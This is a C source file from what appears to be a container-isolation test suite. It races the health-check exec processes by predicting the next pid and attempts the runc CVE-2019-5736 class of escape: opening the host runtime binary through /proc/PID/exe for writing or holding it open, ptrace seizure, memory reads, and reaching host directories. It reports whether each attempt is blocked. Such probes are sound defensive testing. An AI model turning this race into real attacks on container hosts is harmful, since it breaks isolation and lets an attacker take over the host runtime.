/* watch.c: the runtime inside the container (the runc CVE-2019-5736 and
 * CVE-2016-9962 classes). Every health check runs `containerd-lite exec`,
 * whose last process enters the container's pid namespace as the host's
 * runtime binary and execs the check there. Until its execve, the
 * container's root must not reach it: not /proc/PID/exe (the host's
 * binary: overwrite it, or hold it open until the runtime is gone), not
 * ptrace or its memory, not a directory it holds (cwd, root, fds).
 *
 * pids of a namespace are handed out in order: the next process is the
 * highest pid + 1, so scanners spin on that pid's /proc entry and attack
 * it from the moment it appears until it has exec'd (its comm becomes
 * the check's, escape-probe). Several scanners keep the single CPU of a
 * test VM switching, so the runtime is seen mid-setup. */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SCANNERS   3
#define DEADLINE_S 90
#define WANT	   4 /* processes caught before their execve, per scanner */

struct tally {
	int seen, caught;
	int exe_reach, exe_write, ptrace, vm, dirs;
	int exe_err, ptrace_err, vm_err; /* the last refusal's errno */
	char exe_what[160], dir_what[400];
};

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The comm of pid (from /proc/PID/stat, readable whatever its dumpability);
 * 0 when the process is gone. */
static int comm_of(int pid, char *out, size_t size)
{
	char path[64], buf[256], *l, *r;
	int fd;
	ssize_t n;

	fmt(path, sizeof(path), "/proc/%d/stat", pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	l = strchr(buf, '(');
	r = strrchr(buf, ')');
	if (!l || !r || r < l)
		return 0;
	*r = 0;
	fmt(out, size, "%s", l + 1);
	return 1;
}

static int highest_pid(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int max = 0;

	while (d && (e = readdir(d)))
		if (atoi(e->d_name) > max)
			max = atoi(e->d_name);
	if (d)
		closedir(d);
	return max;
}

/* cwd, root and every directory fd of pid. */
static void dirs_of(int pid, struct tally *t)
{
	char path[96], why[768];
	DIR *d;
	struct dirent *e;

	for (int i = 0; i < 2; i++) {
		fmt(path, sizeof(path), "/proc/%d/%s", pid, i ? "cwd" : "root");
		if (judge_path(path, why, sizeof(why)) == ESCAPED && t->dirs++ == 0)
			fmt(t->dir_what, sizeof(t->dir_what), "%s: %s", path, why);
	}
	fmt(path, sizeof(path), "/proc/%d/fd", pid);
	if (!(d = opendir(path)))
		return;
	while ((e = readdir(d))) {
		struct stat st;

		if (e->d_name[0] == '.')
			continue;
		fmt(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
		if (stat(path, &st) == 0 && S_ISDIR(st.st_mode) &&
		    judge_path(path, why, sizeof(why)) == ESCAPED && t->dirs++ == 0)
			fmt(t->dir_what, sizeof(t->dir_what), "%s: %s", path, why);
	}
	closedir(d);
}

/* One attempt of each kind on pid; *held gets an fd of the runtime's exe. */
static void attack(int pid, const struct stat *own, int *held, struct tally *t)
{
	char path[64], byte;
	struct iovec local = {&byte, 1}, remote = {(void *)0x10000, 1};
	struct stat st;
	int fd;

	fmt(path, sizeof(path), "/proc/%d/exe", pid);
	if ((fd = open(path, O_WRONLY | O_CLOEXEC)) >= 0) {
		close(fd);
		t->exe_write++;
	}
	if (*held < 0 && (fd = open(path, O_PATH | O_CLOEXEC)) >= 0) {
		if (fstat(fd, &st) == 0 && (st.st_dev != own->st_dev || st.st_ino != own->st_ino)) {
			char link[128] = "";
			ssize_t n = readlink(path, link, sizeof(link) - 1);

			link[n > 0 ? n : 0] = 0;
			*held = fd;
			if (t->exe_reach++ == 0)
				fmt(t->exe_what, sizeof(t->exe_what),
				    "%s -> %s: the host's runtime binary, outside the root "
				    "(the CVE-2019-5736 foothold)",
				    path, link);
		} else
			close(fd);
	} else if (*held < 0)
		t->exe_err = errno;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
		t->ptrace++;
	else
		t->ptrace_err = errno;
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
		t->vm++;
	else
		t->vm_err = errno;
	dirs_of(pid, t);
}

/* The runtime's binary, held open: once the process has exec'd, nothing
 * keeps it busy (ETXTBSY) any more. */
static void reopen_held(int held, struct tally *t)
{
	char path[64];
	int fd;

	fmt(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; i < 50; i++) {
		if ((fd = open(path, O_WRONLY | O_CLOEXEC)) >= 0) {
			close(fd);
			t->exe_write++;
			break;
		}
		t->exe_err = errno;
		if (errno != ETXTBSY)
			break;
		usleep(20000);
	}
	close(held);
}

static void scan(int next, const struct stat *own, struct tally *t)
{
	double end = now() + DEADLINE_S;
	char comm[64];

	while (now() < end && t->caught < WANT) {
		int pid = 0, held = -1;

		for (int k = next; k < next + 3 && !pid; k++)
			if (comm_of(k, comm, sizeof(comm)))
				pid = k;
		if (!pid)
			continue;
		next = pid + 1;
		t->seen++;
		if (strcmp(comm, "escape-probe") == 0)
			continue; /* seen after its execve: too late */
		t->caught++;
		while (comm_of(pid, comm, sizeof(comm)) && strcmp(comm, "escape-probe") != 0)
			attack(pid, own, &held, t);
		if (held >= 0)
			reopen_held(held, t);
	}
}

static void verdict(const char *name, int n, int caught, int err, const char *what)
{
	if (!caught)
		report(name, ERROR, "no health-check process was caught before its execve");
	else if (n)
		report(name, ESCAPED, "%d times, in %d processes caught before execve: %s", n,
		       caught, what);
	else
		report(name, BLOCKED, "%d processes caught before execve; last refusal: %s", caught,
		       err ? errname(err) : "none");
}

int probes_watch(void)
{
	struct tally sum = {0}, t;
	struct stat own;
	int p[2], go[2], next;
	pid_t kids[SCANNERS];

	if (stat("/bin/escape-probe", &own) < 0 || pipe(p) < 0 || pipe(go) < 0) {
		report("hc-watch", ERROR, "setup: %s", errname(errno));
		return 0;
	}
	for (int i = 0; i < SCANNERS; i++) {
		if ((kids[i] = fork()) == 0) {
			memset(&t, 0, sizeof(t));
			close(go[1]);
			if (read(go[0], &next, sizeof(next)) != sizeof(next))
				_exit(1);
			scan(next, &own, &t);
			if (write(p[1], &t, sizeof(t)) != sizeof(t))
				_exit(1);
			_exit(0);
		}
	}
	next = highest_pid() + 1;
	for (int i = 0; i < SCANNERS; i++)
		if (write(go[1], &next, sizeof(next)) != sizeof(next))
			break;
	close(p[1]);
	for (int i = 0; i < SCANNERS; i++) {
		if (read(p[0], &t, sizeof(t)) != sizeof(t))
			break;
		sum.seen += t.seen;
		sum.caught += t.caught;
		sum.exe_write += t.exe_write;
		sum.ptrace += t.ptrace;
		sum.vm += t.vm;
		if (t.exe_reach && !sum.exe_reach++)
			memcpy(sum.exe_what, t.exe_what, sizeof(t.exe_what));
		if (t.dirs && !sum.dirs++)
			memcpy(sum.dir_what, t.dir_what, sizeof(t.dir_what));
		sum.exe_err = t.exe_err ? t.exe_err : sum.exe_err;
		sum.ptrace_err = t.ptrace_err ? t.ptrace_err : sum.ptrace_err;
		sum.vm_err = t.vm_err ? t.vm_err : sum.vm_err;
	}
	for (int i = 0; i < SCANNERS; i++)
		waitpid(kids[i], NULL, 0);
	dprintf(1, "WATCH scanners=%d seen=%d caught-before-execve=%d\n", SCANNERS, sum.seen,
		sum.caught);
	verdict("hc-exe-reach", sum.exe_reach, sum.caught, sum.exe_err,
		sum.exe_what[0] ? sum.exe_what : "");
	verdict("hc-exe-write", sum.exe_write, sum.caught, sum.exe_err,
		"opened the runtime's binary for writing");
	verdict("hc-ptrace", sum.ptrace, sum.caught, sum.ptrace_err, "PTRACE_SEIZE of the runtime");
	verdict("hc-vm-readv", sum.vm, sum.caught, sum.vm_err,
		"process_vm_readv got past the access check on the runtime");
	verdict("hc-dirs", sum.dirs, sum.caught, 0, sum.dir_what);
	return 0;
}
